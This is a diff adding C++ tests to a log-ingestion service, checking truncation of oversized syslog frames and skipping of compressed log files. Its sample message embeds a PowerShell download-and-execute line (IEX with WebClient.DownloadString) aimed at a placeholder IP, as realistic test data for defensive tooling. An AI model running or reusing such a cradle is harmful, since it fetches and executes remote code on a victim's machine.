@@ -420,6 +420,62 @@ TEST_F(IngestTest, EventsReadAgainAreCountedAsDuplicatesAndStoredOnce) {
     EXPECT_EQ(Json(r)["items"].size(), 3u);
 }
 
+// A message padded past the 64 KiB frame limit (a PowerShell script block, a long command line)
+// is stored as its head with vigil.truncated, which rules and searches see, and the message
+// after it on the connection is intact. A compressed file beside the tailed logs (logrotate's
+// compress) is skipped, not stored as garbage, and the source's status counts it.
+TEST_F(IngestTest, AnOversizedFrameIsStoredCutAndACompressedFileIsSkipped) {
+    const std::string big =
+        "<13>1 - ws01 powershell 4104 - - ScriptBlock MARKER_BIG IEX (New-Object "
+        "Net.WebClient).DownloadString('http://203.0.113.9/a') " +
+        std::string(70000, '#') + "\n<13>1 - ws01 app - - - MARKER_SMALL next message\n";
+    const int fd = ConnectLoopback(app_->ingest_port("syslog-tcp"), SOCK_STREAM);
+    ASSERT_GE(fd, 0);
+    for (size_t off = 0; off < big.size();) {
+        const ssize_t n = ::send(fd, big.data() + off, big.size() - off, MSG_NOSIGNAL);
+        ASSERT_GT(n, 0);
+        off += static_cast<size_t>(n);
+    }
+    ::close(fd);
+    {
+        std::ofstream gz(dir_ / "tailed" / "access.log.2.log", std::ios::binary);
+        gz << std::string("\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03", 10)
+           << "\n\x8e\x01 compressed bytes\n\xff\n";
+    }
+    Browser analyst = FullSession("analyst", auth::Role::kAnalyst);
+    json tcp, files;
+    for (int i = 0; i < 200 && (tcp.is_null() || files.is_null()); ++i) {
+        if (app_->WaitIngestIdle(100ms)) {
+            const json status = Json(Get("/api/v1/ingest/status", &analyst));
+            for (const auto& s : status["sources"]) {
+                if (s["name"] == "syslog-tcp" && s["stored"] == 2) tcp = s;
+                if (s["name"] == "web-files" && s["compressed_skipped"] == 1) files = s;
+            }
+        }
+        std::this_thread::sleep_for(50ms);
+    }
+    ASSERT_FALSE(tcp.is_null()) << "the two messages were not stored";
+    ASSERT_FALSE(files.is_null()) << "the compressed file was not counted";
+    EXPECT_EQ(tcp["oversized"], 1);
+    EXPECT_EQ(files["received"], 0) << files.dump();
+    HttpReply r = Get("/api/v1/events?since=2000-01-01T00:00:00Z&q=MARKER_BIG", &analyst);
+    ASSERT_EQ(r.status, 200) << r.body;
+    ASSERT_EQ(Json(r)["items"].size(), 1u) << r.body;
+    const json cut = Json(r)["items"][0];
+    EXPECT_LE(cut["message"].get<std::string>().size(), 64u * 1024) << "the frame limit's head";
+    EXPECT_NE(cut["fields"].dump().find("truncated"), std::string::npos) << cut.dump();
+    r = Get("/api/v1/events?since=2000-01-01T00:00:00Z&f.vigil.truncated=true", &analyst);
+    ASSERT_EQ(Json(r)["items"].size(), 1u) << r.body;
+    EXPECT_EQ(Json(r)["items"][0]["id"], cut["id"]);
+    r = Get("/api/v1/events?since=2000-01-01T00:00:00Z&q=MARKER_SMALL", &analyst);
+    ASSERT_EQ(Json(r)["items"].size(), 1u) << r.body;
+    EXPECT_EQ(Json(r)["items"][0]["fields"].dump().find("truncated"), std::string::npos);
+    r = Get("/metrics", &analyst);
+    EXPECT_NE(r.body.find("vigil_ingest_compressed_skipped_total{source=\"web-files\"} 1"),
+              std::string::npos)
+        << r.body;
+}
+
 // A line dated 60 days back or 5 days ahead is filed under its receipt (the store does not
 // trust the claim). Its detection is dated so too, or a sender could hide it from the default
 // detections list (the last 24 hours) by backdating the line; the API's `time` is what the
@@ -707,8 +763,8 @@ TEST_F(SilentSourceIngestTest, MetricsEscapeSourceNamesAndCarryEveryCounter) {
          {"vigil_ingest_silent", "vigil_ingest_last_received_seconds", "vigil_ingest_paused_total",
           "vigil_ingest_connections_total", "vigil_ingest_framing_errors_total",
           "vigil_ingest_tls_failures_total", "vigil_ingest_kernel_drops_total",
-          "vigil_ingest_connections_refused_total", "vigil_detections_total",
-          "vigil_ingest_store_errors_total"}) {
+          "vigil_ingest_connections_refused_total", "vigil_ingest_compressed_skipped_total",
+          "vigil_detections_total", "vigil_ingest_store_errors_total"}) {
         EXPECT_NE(r.body.find(std::string("# TYPE ") + name + " "), std::string::npos) << name;
     }
     EXPECT_NE(r.body.find("vigil_ingest_silent{source=\"quiet\"} 0"), std::string::npos);
